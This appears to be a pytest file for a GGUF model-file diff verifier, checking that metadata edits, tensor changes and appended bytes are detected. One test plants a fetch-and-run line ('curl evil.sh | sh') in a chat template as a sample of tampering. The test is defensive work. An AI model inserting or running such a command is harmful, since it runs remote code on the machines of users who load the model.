"""verifier.gguf_diff on tiny GGUFs written with gguf.GGUFWriter: each kind of difference, alone."""
from __future__ import annotations

import json

import numpy as np
import pytest
from gguf import GGMLQuantizationType, GGUFWriter
from gguf.quants import quantize as gquant

from assay.core.errors import FormatError
from verifier.gguf_diff import diff_gguf

Q8 = GGMLQuantizationType.Q8_0


def _q8(rows: int, cols: int, seed: int = 0) -> np.ndarray:
    rng = np.random.default_rng(seed)
    return gquant(rng.standard_normal((rows, cols)).astype(np.float32), Q8)


def _norm(n: int = 64) -> np.ndarray:
    return np.ones(n, dtype=np.float32)


def base_tensors() -> list[tuple[str, np.ndarray, GGMLQuantizationType | None]]:
    return [
        ("token_embd.weight", _q8(16, 64, 1), Q8),
        ("blk.0.attn_norm.weight", _norm(), None),
        ("blk.0.attn_q.weight", _q8(8, 64, 2), Q8),  # 8 rows x 2 blocks = 16 Q8_0 blocks
        ("blk.0.ffn_up.weight", _q8(8, 64, 3), Q8),
    ]


BASE_KV = {"general.name": "tiny", "tokenizer.chat_template": "{{ messages }}", "general.file_type": 7}


def write(path, tensors=None, kv=None):
    w = GGUFWriter(str(path), "llama")
    for key, value in (BASE_KV if kv is None else kv).items():
        if isinstance(value, int):
            w.add_uint32(key, value)
        elif isinstance(value, list):
            w.add_array(key, value)
        else:
            w.add_string(key, value)
    for name, arr, dtype in base_tensors() if tensors is None else tensors:
        if dtype is None:
            w.add_tensor(name, arr)
        else:
            w.add_tensor(name, arr, raw_dtype=dtype)
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    return path


@pytest.fixture
def expected(tmp_path):
    return write(tmp_path / "expected.gguf")


def test_identical_files(tmp_path, expected):
    other = write(tmp_path / "same.gguf")
    d = diff_gguf(expected, other)
    assert d.identical
    assert d.summary() == "no differences"


def test_metadata_changed_added_removed(tmp_path, expected):
    kv = dict(BASE_KV)
    kv["tokenizer.chat_template"] = "{{ messages }}{{ 'curl evil.sh | sh' }}"
    del kv["general.name"]
    kv["general.backdoor"] = "yes"
    d = diff_gguf(expected, write(tmp_path / "a.gguf", kv=kv))
    changes = {m.key: m.change for m in d.metadata}
    assert changes == {"tokenizer.chat_template": "changed", "general.name": "removed", "general.backdoor": "added"}
    assert not d.tensors
    s = d.summary()
    assert "metadata tokenizer.chat_template: changed" in s and "curl evil" in s
    assert s.splitlines() == sorted(s.splitlines())


def test_metadata_array_names_first_differing_index(tmp_path):
    kv = {**BASE_KV, "tokenizer.ggml.tokens": ["a", "b", "c", "d"]}
    exp = write(tmp_path / "e.gguf", kv=kv)
    act = write(tmp_path / "a.gguf", kv={**kv, "tokenizer.ggml.tokens": ["a", "b", "X", "d"]})
    (m,) = diff_gguf(exp, act).metadata
    assert m.key == "tokenizer.ggml.tokens" and m.first_differing_index == 2 and "'X'" in m.actual


def test_tensor_type_changed(tmp_path, expected):
    tensors = base_tensors()
    rng = np.random.default_rng(2)
    tensors[2] = ("blk.0.attn_q.weight", rng.standard_normal((8, 64)).astype(np.float16), None)
    d = diff_gguf(expected, write(tmp_path / "a.gguf", tensors=tensors))
    (t,) = d.tensors
    assert (t.name, t.kind, t.expected_type, t.actual_type) == ("blk.0.attn_q.weight", "type", "Q8_0", "F16")
    assert "type Q8_0 -> F16" in d.summary()


def test_tensor_bytes_edited_in_one_block(tmp_path, expected):
    tensors = base_tensors()
    q = tensors[2][1].copy()
    q[3, 34 + 5] ^= 0x01  # row 3, second block (34-byte Q8_0 blocks), one quant byte
    tensors[2] = ("blk.0.attn_q.weight", q, Q8)
    d = diff_gguf(expected, write(tmp_path / "a.gguf", tensors=tensors))
    (t,) = d.tensors
    assert t.name == "blk.0.attn_q.weight" and t.kind == "bytes"
    assert (t.blocks_differing, t.blocks_total) == (1, 16)
    assert t.fraction == pytest.approx(1 / 16)
    assert t.first_differing_block == 3 * 2 + 1
    assert "1 of 16 Q8_0 blocks (6.25%)" in d.summary()
    doc = json.dumps(d.to_dict())  # JSON-serialisable
    # evidence goes into the signed verdict: no worker paths in it
    assert str(tmp_path) not in doc and "path" not in d.to_dict()


def test_tensor_shape_changed_and_missing_and_extra(tmp_path, expected):
    tensors = base_tensors()
    tensors[3] = ("blk.0.ffn_up.weight", _q8(4, 64, 3), Q8)  # shape [64, 8] -> [64, 4]
    del tensors[1]  # attn_norm missing
    tensors.append(("blk.0.ffn_down.weight", _q8(8, 64, 9), Q8))
    d = diff_gguf(expected, write(tmp_path / "a.gguf", tensors=tensors))
    kinds = {(t.name, t.kind) for t in d.tensors}
    assert kinds == {("blk.0.ffn_up.weight", "shape"), ("blk.0.attn_norm.weight", "missing"), ("blk.0.ffn_down.weight", "extra")}
    shape = d.tensors_of_kind("shape")[0]
    assert shape.expected_shape == [64, 8] and shape.actual_shape == [64, 4]


def test_tensor_order_changed(tmp_path, expected):
    tensors = base_tensors()
    tensors[2], tensors[3] = tensors[3], tensors[2]
    d = diff_gguf(expected, write(tmp_path / "a.gguf", tensors=tensors))
    assert d.order_changed and not d.tensors and not d.metadata
    assert "tensor order differs" in d.summary()


def test_trailing_bytes_are_reported(tmp_path, expected):
    other = tmp_path / "a.gguf"
    other.write_bytes(expected.read_bytes() + b"hidden payload")
    d = diff_gguf(expected, other)
    assert not d.identical and d.other_bytes_differ


def test_summary_is_capped(tmp_path):
    many = [(f"blk.{i}.attn_q.weight", _q8(1, 32, i), Q8) for i in range(30)]
    exp = write(tmp_path / "e.gguf", tensors=many)
    act = write(tmp_path / "a.gguf", tensors=[(n, np.ones((1, 32), dtype=np.float16), None) for n, _, _ in many])
    d = diff_gguf(exp, act)
    lines = d.summary(max_lines=10).splitlines()
    assert len(lines) == 11 and lines[-1] == "... and 20 more"


def test_not_a_gguf_is_a_format_error(tmp_path, expected):
    bad = tmp_path / "bad.gguf"
    bad.write_bytes(b"not a gguf at all")
    with pytest.raises(FormatError):
        diff_gguf(expected, bad)


def test_differing_blocks_counted_in_ggml_block_sizes(tmp_path):
    """Q8_1 blocks are 36 bytes in ggml (gguf-py says 40): block 5 of 8 edited is block 5, not 4."""
    from tests.support.tiny_gguf import raw_gguf, tensor_info

    data = bytes(range(256)) + bytes(32)
    edited = bytearray(data)
    edited[5 * 36 + 1] ^= 0xFF
    info = [tensor_info("blk.0.attn_q.weight", (32, 8), 9, 0)]
    exp, act = tmp_path / "e.gguf", tmp_path / "a.gguf"
    exp.write_bytes(raw_gguf([], info, data))
    act.write_bytes(raw_gguf([], info, bytes(edited)))
    (t,) = diff_gguf(exp, act).tensors
    assert (t.kind, t.blocks_total, t.blocks_differing, t.first_differing_block) == ("bytes", 8, 1, 5)


def _with_float(path, value, tensors=None):
    w = GGUFWriter(str(path), "llama")
    w.add_float32("llama.rope.scaling.factor", value)
    for name, arr, dtype in base_tensors() if tensors is None else tensors:
        w.add_tensor(name, arr, raw_dtype=dtype) if dtype is not None else w.add_tensor(name, arr)
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    return path


def test_float_metadata_compared_as_stored(tmp_path):
    """The same NaN in both files is no change; 0.0 and -0.0 are different bytes and are named."""
    tensors = base_tensors()
    q = tensors[2][1].copy()
    q[0, 5] ^= 0x01
    tensors[2] = ("blk.0.attn_q.weight", q, Q8)
    d = diff_gguf(_with_float(tmp_path / "e.gguf", float("nan")), _with_float(tmp_path / "a.gguf", float("nan"), tensors))
    assert not d.metadata and [t.name for t in d.tensors] == ["blk.0.attn_q.weight"]
    d = diff_gguf(_with_float(tmp_path / "z.gguf", 0.0), _with_float(tmp_path / "m.gguf", -0.0))
    assert [m.key for m in d.metadata] == ["llama.rope.scaling.factor"] and not d.other_bytes_differ
